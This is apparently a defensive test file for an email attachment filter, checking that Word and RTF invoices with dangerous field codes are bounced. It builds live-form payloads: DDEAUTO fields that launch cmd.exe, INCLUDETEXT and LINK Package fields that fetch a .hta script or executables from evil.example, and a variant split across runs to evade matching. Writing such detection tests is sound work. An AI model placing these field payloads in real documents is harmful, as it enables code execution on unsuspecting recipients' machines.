import { zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// A49-13: Word's fields act as the document opens or its fields update: DDEAUTO runs a program (after a prompt
// recipients are trained to click through), LINK and INCLUDETEXT open a file, by its path or from a server. The
// guard read embedded objects and relationships, never the field codes.
const stack = useLocalStack();
const kit = attackerKit(stack);
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const docx = (paragraphs: string) =>
  zipFile([
    {
      name: 'word/document.xml',
      data: `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${paragraphs}</w:body></w:document>`,
    },
  ]);
const simple = (instruction: string) =>
  `<w:p><w:fldSimple w:instr="${instruction.replaceAll('"', '&quot;')}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`;
const complex = (...pieces: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces
    .map((p) => `<w:r><w:instrText xml:space="preserve">${p}</w:instrText></w:r>`)
    .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const verdict = async (name: string, file: Buffer, type?: string) =>
  (await kit.inbound(attachedFile(name, file, type)[0])).verdict;
const rtf = (instruction: string) =>
  Buffer.from(`{\\rtf1\\ansi Invoice\\par{\\field{\\*\\fldinst {${instruction}}}{\\fldrslt x}}}`);

describe('A49-13: fields that run a program or open a file', () => {
  it('bounces a .docx with a DDEAUTO field, whole or cut across runs', async () => {
    const command = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';
    expect(await verdict('Invoice.docx', docx(simple(command)), DOCX)).toBe('BOUNCE');
    expect(
      await verdict('Invoice.docx', docx(complex(' DD', 'EAUTO c:\\\\x\\\\cmd.exe "/k calc"')), DOCX),
    ).toBe('BOUNCE');
  });
  it('bounces a .docx including a script from a share and linking a package to an executable', async () => {
    expect(
      await verdict(
        'Invoice.docx',
        docx(complex('INCLUDETEXT "\\\\\\\\evil.example\\\\s\\\\invoice.hta"')),
        DOCX,
      ),
    ).toBe('BOUNCE');
    expect(
      await verdict(
        'Invoice.docx',
        docx(simple('LINK Package "\\\\\\\\evil.example\\\\s\\\\invoice.exe" "" \\a')),
        DOCX,
      ),
    ).toBe('BOUNCE');
  });
  it('bounces a .docx including text from a server', async () => {
    expect(await verdict('Invoice.docx', docx(simple('INCLUDETEXT "http://evil.example/doc"')), DOCX)).toBe(
      'BOUNCE',
    );
  });
  it('bounces an .rtf with a DDEAUTO field and one with a LINK to an executable', async () => {
    expect(await verdict('Invoice.rtf', rtf('DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe "/k calc"'))).toBe(
      'BOUNCE',
    );
    expect(
      await verdict(
        'Invoice.rtf',
        rtf('LINK Package "\\\\\\\\\\\\\\\\evil\\\\\\\\s\\\\\\\\run.exe" "" \\\\a'),
      ),
    ).toBe('BOUNCE');
  });
  it('(control) sends documents with pictures from the web, hyperlinks and page numbers', async () => {
    const fields =
      simple('INCLUDEPICTURE "http://cdn.example/logo.png" \\* MERGEFORMATINET') +
      complex('HYPERLINK "https://vendor.example/setup.exe"') +
      simple('PAGE \\* MERGEFORMAT');
    expect(await verdict('Invoice.docx', docx(fields), DOCX)).toBe('DEFAULT');
    expect(await verdict('Invoice.rtf', rtf('HYPERLINK "http://vendor.example/x"'))).toBe('DEFAULT');
  });
});
